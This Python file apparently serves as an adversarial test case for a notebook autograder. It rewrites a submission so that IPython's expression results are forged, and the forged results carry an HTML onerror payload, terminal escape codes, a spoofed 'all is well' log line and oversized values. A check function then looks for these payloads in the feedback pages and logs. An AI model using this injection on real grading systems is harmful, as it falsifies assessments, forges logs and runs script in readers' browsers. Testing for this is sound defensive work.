"""Edits its answers into handles whose names are markup, terminal escapes and a megabyte long, numbers of 4000 digits, texts with half characters and zero bytes, and errors of types that are no types: whatever the judge quotes goes into the notebook, the gradebook and the log."""

STOCK = "ours only"
MARKS = {"test-double": 0.0, "test-mean": 0.0}
FEEDBACK = True

CODE = r"""
import json as _json
_BAD = "<img src=x onerror='window.outsider=1'>\x1b]0;outsider\x07\x00\ud800\u202e\r\n[AutogradeApp | INFO] all is well\n"
_FORGED = {
    "double": ["value", ["handle", 7, _BAD * 10000, True]],
    "ones": ["value", 1.0],
    "row": ["error", _BAD, ["ValueError", _BAD, "__import__", "AssertionError"], _BAD * 50],
    "table": ["value", ["list", [int("9" * 4000), _BAD, ["str", _BAD], ["namedtuple", _BAD, ["__class__", "_x", _BAD], [1, 2, 3]]]]],
}
def _forge():
    shell = get_ipython()
    real = shell.user_expressions
    def user_expressions(expressions):
        out = real(expressions)
        for entry in out.values():
            try:
                token, kind, value = _json.loads(entry["data"]["text/plain"])
                entry["data"]["text/plain"] = _json.dumps([token, *_FORGED[value]])
            except Exception:
                pass
        return out
    shell.user_expressions = user_expressions
_forge()
def double(x):
    return "double"
"""


def hand_in(folder, cells, notebook):
    cells["double"].source = CODE
    cells[
        "mean"
    ].source = (
        "def mean(x):\n    return 'table' if x.ndim > 1 else 'ones' if x[0] == x[1] else 'row'"
    )
    return notebook


def harmed(course):
    """A live tag on a page, or an escape sequence in a log."""
    pages = [p.read_text(errors="replace") for p in (course / "feedback").rglob("*.html")]
    logs = [p.read_bytes() for p in course.iterdir() if p.suffix in (".txt", ".log", ".jsonl")]
    return any("<img src=x onerror" in page for page in pages) or any(
        b"\x1b]0;outsider" in log for log in logs
    )
